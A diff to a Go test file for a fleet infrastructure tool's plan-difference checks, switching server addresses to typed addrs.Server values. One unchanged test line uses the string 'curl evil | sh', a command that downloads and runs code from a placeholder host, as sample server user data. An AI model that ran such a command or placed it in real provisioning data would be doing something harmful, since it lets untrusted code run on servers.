@@ -4,6 +4,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/fleet-iac/fleet/addrs"
 	"github.com/fleet-iac/fleet/planner"
 )
 
@@ -30,7 +31,7 @@ func TestDifference(t *testing.T) {
 		"removed last action": {edit: func(p *Plan) { p.Actions = p.Actions[:len(p.Actions)-1] },
 			want: "rename server/db-2 is planned now, not in the saved plan"},
 		"added action": {edit: func(p *Plan) {
-			extra := Action{Action: planner.Action{ID: "delete server/web-9", Type: planner.Delete, Address: "server/web-9", CloudID: "9"}}
+			extra := Action{Action: planner.Action{ID: "delete server/web-9", Type: planner.Delete, Address: addrs.Server("web-9"), CloudID: "9"}}
 			p.Actions = append(p.Actions[:3:3], append([]Action{extra}, p.Actions[3:]...)...)
 		}, want: "delete server/web-9 is in the saved plan, not planned now"},
 		"reordered dependency": {edit: func(p *Plan) { p.Actions[3].DependsOn = []string{"check server/web-1"} },
@@ -117,7 +118,7 @@ func TestDifferenceInABatch(t *testing.T) {
 	for name, edit := range map[string]func(m *Member){
 		"server type": func(m *Member) { m.Server.Type = "s16-g2-s50" },
 		"user data":   func(m *Member) { m.Server.UserDataSHA256 = planner.UserDataDigest("curl evil | sh") },
-		"address":     func(m *Member) { m.Address = "server/db-9" },
+		"address":     func(m *Member) { m.Address = addrs.Server("db-9") },
 	} {
 		t.Run(name, func(t *testing.T) {
 			saved := Encode(fixture(), fixtureOptions)
